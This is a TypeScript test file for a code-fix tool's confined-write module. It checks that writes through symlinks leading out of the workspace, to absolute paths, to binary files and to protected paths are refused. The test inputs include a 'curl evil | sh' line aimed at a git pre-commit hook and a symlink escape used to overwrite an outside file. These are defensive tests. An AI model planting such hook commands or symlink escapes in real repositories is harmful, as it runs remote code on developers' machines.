import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { confinementRefusal, targetRefusal, writeChangesExactly } from '../../src/node/safeWrite';

/** The write rules of --apply and the editor's Accept, on real files and links. */
describe('exact, confined writes (safeWrite)', () => {
  let base: string;
  let root: string;
  let outside: string;
  beforeEach(() => {
    base = fs.mkdtempSync(path.join(os.tmpdir(), 'reflect-safewrite-'));
    root = path.join(base, 'proj');
    outside = path.join(base, 'outside');
    fs.mkdirSync(path.join(root, 'src'), { recursive: true });
    fs.mkdirSync(outside);
    fs.writeFileSync(path.join(outside, 'target.js'), 'outside\n');
  });
  afterEach(() => fs.rmSync(base, { recursive: true, force: true }));

  it('refuses a link (or a link to a folder) leading outside the workspace, and a dangling one, but follows links inside it', () => {
    fs.symlinkSync(path.join(outside, 'target.js'), path.join(root, 'src/out.js'));
    fs.symlinkSync(outside, path.join(root, 'lib'));
    fs.symlinkSync(path.join(outside, 'missing.js'), path.join(root, 'src/dangling.js'));
    fs.writeFileSync(path.join(root, 'src/real.js'), 'x\n');
    fs.symlinkSync('real.js', path.join(root, 'src/alias.js'));
    assert.match(confinementRefusal(root, 'src/out.js')!, /^src\/out\.js is a symbolic link \(or inside one\) that points outside the workspace, to .*outside\/target\.js$/);
    assert.match(confinementRefusal(root, 'lib/new.js')!, /points outside the workspace, to .*outside\/new\.js$/);
    assert.match(confinementRefusal(root, 'src/dangling.js')!, /points outside the workspace, to .*outside\/missing\.js$/);
    assert.strictEqual(confinementRefusal(root, '../x.js'), '../x.js is outside the workspace');
    assert.strictEqual(confinementRefusal(root, '/etc/passwd'), '/etc/passwd is an absolute path');
    assert.strictEqual(confinementRefusal(root, 'src/alias.js'), undefined);
    assert.strictEqual(confinementRefusal(root, 'src/new/deep.js'), undefined);
  });

  it('writes all changes or none: one refused change leaves every file as it was', () => {
    fs.writeFileSync(path.join(root, 'src/a.js'), 'a\n');
    fs.symlinkSync(path.join(outside, 'target.js'), path.join(root, 'src/out.js'));
    const refusal = writeChangesExactly(root, [
      { path: 'src/a.js', before: 'a\n', after: 'A\n' },
      { path: 'src/out.js', before: 'outside\n', after: 'pwned\n' },
    ]);
    assert.match(refusal!, /^src\/out\.js is a symbolic link/);
    assert.strictEqual(fs.readFileSync(path.join(root, 'src/a.js'), 'utf8'), 'a\n');
    assert.strictEqual(fs.readFileSync(path.join(outside, 'target.js'), 'utf8'), 'outside\n');
  });

  it('refuses a binary or non-UTF-8 file instead of re-encoding it; writes CRLF, BOM and UTF-8 byte for byte, keeping the mode', () => {
    fs.writeFileSync(path.join(root, 'src/latin.js'), Buffer.from('// caf\xe9\n', 'latin1'));
    fs.writeFileSync(path.join(root, 'src/bin.dat'), Buffer.from([1, 0, 2]));
    assert.match(targetRefusal(root, { path: 'src/latin.js', before: '', after: '' })!, /is not UTF-8 text/);
    assert.match(targetRefusal(root, { path: 'src/bin.dat', before: '', after: '' })!, /is a binary file/);
    const before = '\ufeff// café\r\nexports.x = 1;\r\n';
    const file = path.join(root, 'src/run.sh');
    fs.writeFileSync(file, before);
    fs.chmodSync(file, 0o755);
    const after = before.replace('x = 1', 'x = 2');
    assert.strictEqual(writeChangesExactly(root, [{ path: 'src/run.sh', before, after }]), undefined);
    assert.ok(fs.readFileSync(file).equals(Buffer.from(after, 'utf8')));
    assert.strictEqual(fs.statSync(file).mode & 0o777, 0o755);
  });

  it('refuses a file changed since the run, and protected paths (.git/, auto-run editor configs, test files)', () => {
    fs.writeFileSync(path.join(root, 'src/a.js'), 'changed meanwhile\n');
    assert.strictEqual(writeChangesExactly(root, [{ path: 'src/a.js', before: 'a\n', after: 'b\n' }]), 'src/a.js changed since the run started; run reflect fix again');
    assert.match(writeChangesExactly(root, [{ path: '.git/hooks/pre-commit', before: '', after: 'curl evil | sh\n' }])!, /^\.git\/hooks\/pre-commit is protected: .*version-control data is never written/);
    assert.match(writeChangesExactly(root, [{ path: '.vscode/tasks.json', before: '', after: '{}\n' }])!, /^\.vscode\/tasks\.json is protected: /);
    assert.match(writeChangesExactly(root, [{ path: 'test/a.test.js', before: '', after: 'x\n' }])!, /^test\/a\.test\.js is protected: /);
    assert.strictEqual(writeChangesExactly(root, [{ path: 'test/a.test.js', before: '', after: 'x\n' }], { allowTestEdits: true }), undefined);
    assert.deepStrictEqual(fs.readdirSync(root).sort(), ['src', 'test']);
  });
});
